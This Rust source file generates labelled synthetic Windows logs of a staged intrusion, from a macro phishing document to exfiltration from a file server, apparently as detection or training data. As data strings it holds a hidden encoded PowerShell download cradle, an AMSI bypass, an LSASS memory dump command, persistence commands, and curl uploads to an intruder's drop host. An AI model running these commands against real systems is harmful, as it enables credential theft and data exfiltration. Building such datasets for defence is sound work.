//! The intrusion's part on Windows: from the mail that Tom opens to the archive that leaves the file server.
//!
//! Every record written here is labelled. The technique is public knowledge; names, hosts and files are invented.

use crate::{
    chance::{Chance, encoded_command},
    clock::{Moment, at},
    company::*,
    office_day::Desk,
    windows::{Logon, Process, WindowsLog},
};

const SYSTEM32: &str = "C:\\Windows\\System32\\";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const HELPER: &str = "C:\\Users\\Public\\Libraries\\updhelper.exe";
const STAGING: &str = "D:\\Projects\\_archive\\~tmp";

fn tool(name: &str) -> String {
    format!("{SYSTEM32}{name}")
}

/// The whole of it, in order.
pub(crate) fn write(log: &mut WindowsLog, desks: &[Desk]) {
    let tom = desks.iter().find(|desk| desk.host.name == WS014.name).expect("Tom has a desk");
    let helper = phishing(log, tom);
    persistence(log, &helper);
    beacons(log, &helper);
    discovery(log, &helper);
    credentials(log, tom, &helper);
    laptop(log);
    let shell = lateral_movement(log);
    let shell = secrets(log, shell);
    collection(log, &shell);
}

/// 10:42: the document, its macro, the script, the encoded command, the download.
fn phishing(log: &mut WindowsLog, tom: &Desk) -> Process {
    let host = &WS014;
    let office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
    let outlook = log.standing(&format!("{office}OUTLOOK.EXE"), tom.user);
    let document = "C:\\Users\\tom.ashdown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\LQ4Z71RT\\Boundary dispute 2452.docm";
    log.at(host, at(10, 42, 6))
        .intrusion("initial-access", "T1566.001", "Outlook saves the attached document with macros")
        .writes(&outlook, document);
    let image = format!("{office}WINWORD.EXE");
    let word = log.at(host, at(10, 42, 9)).intrusion("execution", "T1204.002", "Tom opens the attachment").starts(
        &outlook,
        &image,
        &format!("\"{image}\" /n \"{document}\" /o \"\""),
    );
    log.at(host, at(10, 42, 31))
        .intrusion("execution", "T1059.005", "Tom enables content and Word loads the macro engine")
        .loads(&word, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL");
    let dropped = "C:\\Users\\tom.ashdown\\AppData\\Local\\Temp\\boundary.js";
    log.at(host, at(10, 42, 33))
        .intrusion("execution", "T1059.005", "The macro writes a script to the temporary folder")
        .writes(&word, dropped);
    let script_host = log
        .at(host, at(10, 42, 34))
        .intrusion("execution", "T1059.007", "Word starts the script host on it")
        .starts(&word, &tool("wscript.exe"), &format!("wscript.exe //B \"{dropped}\""));
    download(log, &script_host)
}

fn download(log: &mut WindowsLog, script_host: &Process) -> Process {
    let host = &WS014;
    let plain = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)";
    let cradle = format!("IEX (New-Object Net.WebClient).DownloadString('https://{INTRUDER_NAME}/s/u.txt')");
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded_command(&cradle));
    let shell = log
        .at(host, at(10, 42, 36))
        .intrusion("execution", "T1059.001", "The script starts PowerShell, hidden and encoded")
        .starts(script_host, POWERSHELL, &command);
    log.at(host, at(10, 42, 37))
        .intrusion("execution", "T1059.001", "The decoded command fetches a script and runs it")
        .script(&cradle, "");
    log.at(host, at(10, 42, 38))
        .intrusion("command-and-control", "T1071.001", "PowerShell resolves the control host")
        .resolves(&shell, INTRUDER_NAME, INTRUDER_CONTROL);
    log.at(host, at(10, 42, 38) + 400)
        .intrusion("command-and-control", "T1071.001", "PowerShell connects to the control host")
        .connects(&shell, INTRUDER_CONTROL, INTRUDER_NAME, 443);
    log.at(host, at(10, 42, 41))
        .intrusion("defense-impairment", "T1685", "The fetched script switches the antimalware interface off")
        .script(plain, "");
    log.at(host, at(10, 42, 55))
        .intrusion("command-and-control", "T1105", "PowerShell writes the implant to the public folder")
        .writes(&shell, HELPER);
    log.at(host, at(10, 43, 2)).intrusion("execution", "T1204.002", "The implant starts").starts(
        &shell,
        HELPER,
        &format!("\"{HELPER}\" -k std"),
    )
}

/// 10:47: a run key and a scheduled task.
fn persistence(log: &mut WindowsLog, helper: &Process) {
    let host = &WS014;
    let key = "HKU\\S-1-5-21-2127521184-1604012920-1887927527-1114\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LibraryHelper";
    log.at(host, at(10, 47, 18))
        .intrusion("persistence", "T1547.001", "The implant enters itself into the run key")
        .sets(helper, key, &format!("\"{HELPER}\" -k std"));
    let command = format!("schtasks.exe /Create /F /SC HOURLY /TN \"Library Index\" /TR \"{HELPER} -k task\"");
    log.at(host, at(10, 49, 40))
        .intrusion("persistence", "T1053.005", "A scheduled task is created for the implant")
        .starts(helper, &tool("schtasks.exe"), &command);
    let content = format!(
        "<Task><Triggers><CalendarTrigger/></Triggers><Actions><Exec><Command>{HELPER}</Command><Arguments>-k task</Arguments></Exec></Actions></Task>"
    );
    log.at(host, at(10, 49, 41)).intrusion("persistence", "T1053.005", "Windows registers the task").registers_task(
        &TOM,
        "\\Library Index",
        &content,
    );
}

/// A beacon every quarter of an hour, give or take.
fn beacons(log: &mut WindowsLog, helper: &Process) {
    let mut chance = Chance::named("beacons");
    let mut moment: Moment = at(10, 51, 0);
    while moment < at(16, 5, 0) {
        log.at(&WS014, moment)
            .intrusion("command-and-control", "T1071.001", "The implant calls its control host")
            .connects(helper, INTRUDER_CONTROL, INTRUDER_NAME, 443);
        moment += at(0, 16, 0) + chance.between(0, 150_000);
    }
}

/// 10:55 to 11:10: where am I, who am I, who matters here.
fn discovery(log: &mut WindowsLog, helper: &Process) {
    let host = &WS014;
    let cmd = tool("cmd.exe");
    let shell = log
        .at(host, at(10, 55, 2))
        .intrusion("execution", "T1059.003", "The implant opens a command shell")
        .starts(helper, &cmd, "C:\\Windows\\system32\\cmd.exe /Q");
    for (moment, technique, program, command, note) in [
        (at(10, 55, 9), "T1033", "whoami.exe", "whoami /all", "The intruder asks for account and rights"),
        (at(10, 55, 31), "T1016", "ipconfig.exe", "ipconfig /all", "The intruder asks for the network settings"),
        (at(10, 56, 14), "T1082", "systeminfo.exe", "systeminfo", "The intruder asks for the system's description"),
        (
            at(10, 58, 40),
            "T1482",
            "nltest.exe",
            "nltest /domain_trusts /all_trusts",
            "The intruder asks for domain trusts",
        ),
        (at(10, 59, 22), "T1018", "nltest.exe", "nltest /dclist:fenlowe", "The intruder asks for domain controllers"),
        (
            at(11, 2, 51),
            "T1069.002",
            "net.exe",
            "net group \"Domain Admins\" /domain",
            "The intruder lists the domain's administrators",
        ),
        (at(11, 4, 3), "T1087.002", "net.exe", "net user /domain", "The intruder lists the domain's users"),
        (at(11, 9, 47), "T1135", "net.exe", "net view \\\\FL-FS01 /all", "The intruder lists the file server's shares"),
    ] {
        log.at(host, moment).intrusion("discovery", technique, note).starts(&shell, &tool(program), command);
    }
}

/// 11:31: the memory of LSASS.
fn credentials(log: &mut WindowsLog, tom: &Desk, helper: &Process) {
    let host = &WS014;
    let dump = "C:\\Users\\Public\\Libraries\\lsass-644.dmp";
    let command = format!("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 {dump} full");
    let dumper = log
        .at(host, at(11, 31, 12))
        .intrusion("credential-access", "T1003.001", "rundll32 is told to dump LSASS through comsvcs.dll")
        .starts_as(&SYSTEM, helper, &tool("rundll32.exe"), &command);
    log.at(host, at(11, 31, 13))
        .intrusion("credential-access", "T1003.001", "rundll32 opens LSASS with all rights")
        .opens(&dumper, &tom.lsass, "0x1fffff");
    log.at(host, at(11, 31, 15))
        .intrusion("credential-access", "T1003.001", "The dump is written")
        .writes(&dumper, dump);
    log.at(host, at(11, 36, 0))
        .intrusion("exfiltration", "T1041", "The dump leaves over the control channel")
        .connects(helper, INTRUDER_CONTROL, INTRUDER_NAME, 443);
}

/// 13:05: the stolen password is tried at the laptop, where it does not work.
fn laptop(log: &mut WindowsLog) {
    for second in [10, 12, 15] {
        let logon = Logon { kind: 3, package: "NTLM", from: WS014.address, workstation: "FL-WS-014" };
        log.at(&LT021, at(13, 5, second))
            .intrusion(
                "lateral-movement",
                "T1021.002",
                "The local administrator's guessed password fails at the laptop",
            )
            .fails_to_log_on("Administrator", &logon, "0xc000006a");
    }
}

/// 13:20: to the file server, with Marek's administrator account, as a service.
fn lateral_movement(log: &mut WindowsLog) -> Process {
    let logon = Logon { kind: 3, package: "NTLM", from: WS014.address, workstation: "FL-WS-014" };
    let privileges =
        "SeSecurityPrivilege SeTakeOwnershipPrivilege SeLoadDriverPrivilege SeBackupPrivilege SeDebugPrivilege";
    log.at(&FS01, at(13, 20, 44))
        .intrusion("lateral-movement", "T1021.002", "Marek's administrator account logs on from Tom's machine")
        .logs_on(&ADM_MAREK, &logon);
    log.at(&FS01, at(13, 20, 44))
        .intrusion("privilege-escalation", "T1078.002", "The logon receives administrator rights")
        .receives_privileges(&ADM_MAREK, privileges);
    let path = "%COMSPEC% /Q /c start /b C:\\Users\\Public\\Libraries\\updhelper.exe -k svc";
    log.at(&FS01, at(13, 20, 46))
        .intrusion("persistence", "T1543.003", "A service is installed that runs a shell")
        .installs_service("LibIdxSvc", path, "user mode service");
    let services = log.standing(&tool("services.exe"), &SYSTEM);
    let command = "C:\\Windows\\system32\\cmd.exe /Q /c start /b C:\\Users\\Public\\Libraries\\updhelper.exe -k svc";
    let shell = log.at(&FS01, at(13, 20, 47)).intrusion("execution", "T1569.002", "The service starts a shell").starts(
        &services,
        &tool("cmd.exe"),
        command,
    );
    let helper = log
        .at(&FS01, at(13, 20, 48))
        .intrusion("execution", "T1569.002", "The shell starts the implant on the file server")
        .starts(&shell, HELPER, &format!("{HELPER} -k svc"));
    log.at(&FS01, at(13, 21, 2))
        .intrusion("command-and-control", "T1071.001", "The second implant calls the control host")
        .connects(&helper, INTRUDER_CONTROL, INTRUDER_NAME, 443);
    helper
}

/// 13:58: a search for keys finds one for the portal server, and it is used.
fn secrets(log: &mut WindowsLog, helper: Process) -> Process {
    let shell = log
        .at(&FS01, at(13, 57, 58))
        .intrusion("execution", "T1059.003", "The implant opens a command shell on the file server")
        .starts(&helper, &tool("cmd.exe"), "C:\\Windows\\system32\\cmd.exe /Q");
    let command =
        "findstr /s /i /m \"password aws_secret BEGIN RSA\" D:\\Projects\\*.txt D:\\Office\\*.pem D:\\Office\\*.cfg";
    log.at(&FS01, at(13, 58, 20))
        .intrusion("credential-access", "T1552.001", "Files are searched for passwords and keys")
        .starts(&shell, &tool("findstr.exe"), command);
    let command = "ssh.exe -i D:\\Office\\IT\\portal-deploy.pem deploy@fl-web01";
    let client = log
        .at(&FS01, at(14, 20, 9))
        .intrusion("lateral-movement", "T1021.004", "The SSH client starts with the deployment key")
        .starts(&shell, "C:\\Windows\\System32\\OpenSSH\\ssh.exe", command);
    log.at(&FS01, at(14, 20, 10))
        .intrusion("lateral-movement", "T1021.004", "The file server connects to the portal server by SSH")
        .connects(&client, "10.20.2.30", "fl-web01.corp.fenwick-lowe.example", 22);
    shell
}

/// 15:05 to 15:55: packed, sent, and the log cleared.
fn collection(log: &mut WindowsLog, shell: &Process) {
    for (second, project) in [(4, "2452 Quay House"), (31, "2460 Depot")] {
        let command = format!("robocopy \"D:\\Projects\\{project}\" \"{STAGING}\" /S /NP /R:0");
        log.at(&FS01, at(15, 5, second))
            .intrusion("collection", "T1074.001", "Project files are gathered in a hidden folder")
            .starts(shell, &tool("Robocopy.exe"), &command);
    }
    let packer = "C:\\Program Files\\7-Zip\\7z.exe";
    let command = format!("\"{packer}\" a -mhe=on -pq7Lw0nd -v200m {STAGING}\\t.7z {STAGING}");
    let process = log
        .at(&FS01, at(15, 14, 50))
        .intrusion("collection", "T1560.001", "The gathered files are packed with a password")
        .starts(shell, packer, &command);
    for part in 1..=3 {
        log.at(&FS01, at(15, 16 + part, 22))
            .intrusion("collection", "T1560.001", "A volume of the archive is written")
            .writes(&process, &format!("{STAGING}\\t.7z.00{part}"));
    }
    for part in 1..=3 {
        let command = format!("curl.exe -s -k -T {STAGING}\\t.7z.00{part} sftp://{INTRUDER_DROP}/in/ --user f:l");
        let curl = log
            .at(&FS01, at(15, 28 + part * 5, 7))
            .intrusion("exfiltration", "T1048", "curl uploads a volume of the archive")
            .starts(shell, &tool("curl.exe"), &command);
        log.at(&FS01, at(15, 28 + part * 5, 8))
            .intrusion("exfiltration", "T1048.002", "The upload connects to the intruder's host by SFTP")
            .connects(&curl, INTRUDER_DROP, "-", 22);
    }
    log.at(&FS01, at(15, 55, 30))
        .intrusion("defense-impairment", "T1685.005", "The log is cleared from the command line")
        .starts(shell, &tool("wevtutil.exe"), "wevtutil cl Security");
    log.at(&FS01, at(15, 55, 31))
        .intrusion("defense-impairment", "T1685.005", "Windows notes that the security log was cleared")
        .clears_security_log(&ADM_MAREK);
}
